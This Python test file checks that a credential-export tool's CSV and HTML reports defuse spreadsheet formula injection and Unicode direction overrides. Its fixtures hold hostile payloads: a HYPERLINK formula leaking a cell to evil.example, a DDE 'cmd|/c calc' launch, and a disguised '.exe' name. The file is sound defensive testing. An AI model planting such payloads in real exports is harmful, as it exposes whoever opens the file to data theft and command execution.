"""Reports opened by people: a spreadsheet never runs a cell of report.csv as a formula, and
report.html shows an award id as it is written, direction overrides included."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from edcbridge.cli import main
from edcbridge.deliver.results import Outcome, drop_results, write_results
from edcbridge.output import text_cell
from tests.conftest import FIXTURES
from tests.test_pipeline import _awards_with_ids

CATALOGUE = FIXTURES / "imperial" / "catalogue.yaml"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)"]
OVERRIDE = "BIDI-\u202egpj.exe\u202c"


@pytest.fixture
def env(store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EDCBRIDGE_SCHEMAS", str(store.root))


def _export(awards: Path, out: Path):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(main, ["export", str(awards), "-c", str(CATALOGUE), "-o", str(out)])


def test_text_cells() -> None:
    cells = ("=1+1", "\t=1", "A-1", "", 7, "Chloé")
    assert [text_cell(v) for v in cells] == ["'=1+1", "'\t=1", "A-1", "", 7, "Chloé"]


def test_a_formula_after_leading_spaces_is_no_formula(env: None, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """LibreOffice, with 'Trim spaces' ticked at import, runs the cell ``  =2+3.csv`` as a
    formula: an awards file of that name, given as it is, starts the file and errors cells."""
    monkeypatch.chdir(tmp_path)
    awards = _awards_with_ids(tmp_path / "  =2+3.csv", ["GOOD-1", "BAD-2"])
    awards.write_text(awards.read_text("utf-8").replace("BAD-2,IMP-MC-", "BAD-2,NOPE-MC-"), "utf-8")
    result = CliRunner().invoke(main, ["export", awards.name, "-c", str(CATALOGUE), "-o", "out"])
    assert result.exit_code == 1, result.output
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["file"], row["status"], row["errors"][:15]) for row in rows] == \
        [("'  =2+3.csv", "done", ""), ("'  =2+3.csv", "failed", "'  =2+3.csv:3: ")]
    assert text_cell(" @SUM(A1)") == "' @SUM(A1)"


def test_no_formula_starts_after_a_semicolon(env: None, tmp_path: Path) -> None:
    """Excel in a locale whose list separator is ``;`` (Polish, German, French) opens report.csv
    by a double-click split at every ``;``, quotes or not: ``A;=2+3;B`` showed 5 in a cell."""
    awards = _awards_with_ids(tmp_path / "awards.csv", ["A;=2+3;B", "B; -3+4;@SUM(1)", "C;D"])
    result = _export(awards, tmp_path / "out")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "report.csv").read_text("utf-8-sig")
    assert not [cell for line in text.splitlines() for cell in line.split(";")[1:]
                if cell.lstrip(" ").startswith(("=", "+", "-", "@"))]
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        ids = [row["award_id"] for row in csv.DictReader(handle)]
    assert ids == ["A;'=2+3;B", "B;' -3+4;'@SUM(1)", "C;D"]
    records = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))["records"]
    assert records[0]["award_id"] == "A;=2+3;B"  # JSON keeps it as it is


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _formulas_after_a_semicolon(text: str) -> list[str]:
    """The cells a spreadsheet splitting every line at ``;`` would start with a formula: a
    quote there opens a quoted field (the csv module writes a quote of the text twice), whose
    text is still run."""
    return [cell for line in text.splitlines() for cell in line.split(";")[1:]
            if cell.lstrip(' "').startswith(FORMULA_START)]


def test_no_formula_starts_after_a_semicolon_and_a_quote(env: None, tmp_path: Path) -> None:
    """An id ``A;"=2+3"`` is written with its quotes doubled: split at the ``;``, a cell
    starting ``""=2+3``, a quoted field Excel runs as a formula."""
    ids = ['A;"=2+3"', 'B; ""-3+4', 'C;"D"']
    awards = _awards_with_ids(tmp_path / "awards.csv", ids)
    result = _export(awards, tmp_path / "out")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "report.csv").read_text("utf-8-sig")
    assert _formulas_after_a_semicolon(text) == []
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert [row["award_id"] for row in csv.DictReader(handle)] == ['A;\'"=2+3"', 'B;\' ""-3+4', 'C;"D"']
    records = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))["records"]
    assert [r["award_id"] for r in records] == ids  # JSON keeps them as they are


def test_text_cells_as_owasp_lists_formula_starts() -> None:
    """A line feed and the full-width ``＝＋－＠`` (read as formulas in Japanese locales) start
    one too, also after a ``;``."""
    cells = ["\n=1", "\uff1d1+1", "\uff0bA1", "\uff0d1", "\uff20SUM(A1)", "A;\uff1d1", "A;\t=1", "A;'=1"]
    assert [text_cell(v) for v in cells] == ["'\n=1", "'\uff1d1+1", "'\uff0bA1", "'\uff0d1", "'\uff20SUM(A1)",
                                            "A;'\uff1d1", "A;'\t=1", "A;''=1"]


def test_report_csv_cells_are_never_formulas(env: None, tmp_path: Path) -> None:
    awards = _awards_with_ids(tmp_path / "awards.csv", [*FORMULAS, "PLAIN-1"])
    result = _export(awards, tmp_path / "out")
    assert result.exit_code == 0, result.output
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8", newline="") as handle:
        ids = [row["award_id"] for row in csv.DictReader(handle)]
    assert ids == [f"'{award_id}" for award_id in FORMULAS] + ["PLAIN-1"]
    records = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))["records"]
    assert [r["award_id"] for r in records] == [*FORMULAS, "PLAIN-1"]  # JSON keeps them as they are


def test_report_html_shows_a_direction_override(env: None, tmp_path: Path) -> None:
    awards = _awards_with_ids(tmp_path / "awards.csv", [OVERRIDE])
    awards.write_text(awards.read_text("utf-8").replace("IMP-MC-", "NOPE-MC-"), "utf-8")  # fails to load
    result = _export(awards, tmp_path / "out")
    assert result.exit_code == 1, result.output
    page = (tmp_path / "out" / "report.html").read_text("utf-8")
    assert "\u202e" not in page and "\u202c" not in page
    assert "BIDI-\\u202egpj.exe\\u202c" in page


def test_delivery_results_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    outcome = Outcome("=cmd|'/c calc'!A0 -> learner@example.org", "deposit", "failed", message="@oops")
    write_results(tmp_path, "wallet-results", "http://127.0.0.1:9", False, [outcome])
    text = (tmp_path / "wallet-results.csv").read_text("utf-8")
    assert "'=cmd" in text and "'@oops" in text


def test_no_formula_starts_after_a_semicolon_in_the_delivery_results(tmp_path: Path) -> None:
    """A wallet's or a register's answer is quoted in the results: ``refused;=cmd`` was written as
    it is."""
    outcomes = [Outcome("urn:c;=1 -> learner@example.org", "deposit", "failed", message='refused;"=cmd|x"'),
                Outcome("urn:d -> other@example.org", "deposit", "failed", message="refused; @SUM(1);+2")]
    write_results(tmp_path, "wallet-results", "http://127.0.0.1:9", False, outcomes)
    assert _formulas_after_a_semicolon((tmp_path / "wallet-results.csv").read_text("utf-8")) == []


def test_an_item_guarded_after_a_semicolon_is_still_found_to_be_dropped(tmp_path: Path) -> None:
    """Erasing a learner's data takes their items out of the results by key, read back as written."""
    outcomes = [Outcome("urn:c;=1 -> learner@example.org", "deposit", "ok"),
                Outcome("urn:c;'=1 -> learner@example.org", "deposit", "ok"),
                Outcome("urn:d -> other@example.org", "deposit", "ok")]
    write_results(tmp_path, "wallet-results", "http://127.0.0.1:9", False, outcomes)
    drop_results(tmp_path, "wallet-results", lambda key: key.startswith("urn:c;=1 "), "dropped")
    with (tmp_path / "wallet-results.csv").open(encoding="utf-8", newline="") as handle:
        keys = [row["key"] for row in csv.DictReader(handle)]
    assert len(keys) == 2 and keys[1] == "urn:d -> other@example.org", keys
